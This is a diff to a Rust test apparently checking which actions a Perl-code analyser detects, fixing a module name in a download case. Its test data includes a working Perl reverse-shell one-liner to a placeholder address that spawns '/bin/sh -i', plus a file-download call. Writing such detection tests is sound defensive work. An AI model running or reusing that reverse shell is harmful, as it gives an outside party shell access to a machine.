@@ -29,7 +29,7 @@ fn acts_and_mentions() {
                 &["move a | b", "link d | c", "mode 644 e", "owner f"],
             ),
             ("kill 9, $pid", &["kill"]),
-            ("use LWP::SimpleCommand; getstore('http://h/x', '/y')", &["connect http://h/x", "write /y"]),
+            ("use LWP::Simple; getstore('http://h/x', '/y')", &["connect http://h/x", "write /y"]),
             (
                 "use Socket;$i='192.0.2.1';$p=9001;socket(S,PF_INET,SOCK_STREAM,6);\
                  if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,'>&S');exec('/bin/sh -i');}",
